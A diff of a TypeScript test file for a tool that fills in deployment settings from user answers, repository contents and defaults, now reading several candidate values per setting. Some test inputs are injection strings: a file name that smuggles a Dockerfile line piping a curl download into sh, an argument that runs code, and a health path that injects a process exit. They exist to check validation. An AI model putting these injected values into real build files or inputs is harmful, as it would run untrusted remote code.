@@ -1,6 +1,6 @@
-import { completeSettings, settingNames } from './settings';
+import { Candidates, completeSettings, settingNames } from './settings';
 
-const complete = (read: object, answers = {}) =>
+const complete = (read: Candidates, answers = {}) =>
   completeSettings({
     asked: settingNames,
     answers: { main: 'a.js', image: 'a:1', ...answers },
@@ -10,7 +10,7 @@ const complete = (read: object, answers = {}) =>
 
 it('goes by answers, then by the repository, then by what is usual', async () => {
   expect(
-    await complete({ port: 3000, memoryLimit: 64 }, { port: 9090 }),
+    await complete({ port: [3000], memoryLimit: [64] }, { port: 9090 }),
   ).toEqual({
     values: {
       main: 'a.js',
@@ -41,13 +41,28 @@ it('names all that nothing tells', async () => {
   );
 });
 
+it('goes by the first that a repository can mean', async () => {
+  expect(
+    await complete(
+      {
+        image: ['a:latest', 'ghcr.io/acme/a:1.0.0+1', 'ghcr.io/acme/a:1.0.0'],
+        port: [undefined, 70_000, 3000, 4000],
+      },
+      { image: '' },
+    ),
+  ).toMatchObject({
+    values: { image: 'ghcr.io/acme/a:1.0.0', port: 3000 },
+    read: ['port', 'image'],
+  });
+});
+
 // What a repository says may be anything, and is written into its files.
-it.each([
-  { main: 'a.js"]\nRUN curl example.com | sh' },
-  { main: '-e process.exit()' },
-  { image: 'a:latest' },
-  { image: 'a' },
-  { image: 'a:${VERSION}' },
+it.each<Candidates>([
+  { main: ['a.js"]\nRUN curl example.com | sh'] },
+  { main: ['-e process.exit()'] },
+  { image: ['a:latest', 'a'] },
+  { image: ['a:${VERSION}'] },
+  { image: ['a:1.0.0+1'] },
 ])('asks for what a repository cannot mean by %j', async read => {
   const [name] = Object.keys(read);
   await expect(complete(read, { [name]: '' })).rejects.toThrow(
@@ -55,14 +70,15 @@ it.each([
   );
 });
 
-it.each([
-  { port: 0 },
-  { port: 70_000 },
-  { port: NaN },
-  { healthPath: '/a b' },
-  { healthPath: "/'); process.exit(); ('" },
-  { readyPath: 'ready' },
-  { memoryLimit: 1 },
+it.each<Candidates>([
+  { port: [0] },
+  { port: [70_000] },
+  { port: [NaN] },
+  { port: [3000.5] },
+  { healthPath: ['/a b'] },
+  { healthPath: ["/'); process.exit(); ('"] },
+  { readyPath: ['ready'] },
+  { memoryLimit: [1, 64.5] },
 ])('goes by what is usual where a repository says %j', async read => {
   expect(await complete(read)).toEqual(await complete({}));
 });
